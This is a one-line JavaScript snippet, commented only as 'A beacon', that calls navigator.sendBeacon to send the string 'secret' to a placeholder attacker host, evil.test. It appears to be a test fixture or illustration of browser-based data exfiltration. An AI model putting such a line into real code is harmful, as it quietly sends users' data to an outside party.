// A beacon.

navigator.sendBeacon('http://evil.test/x', 'secret');
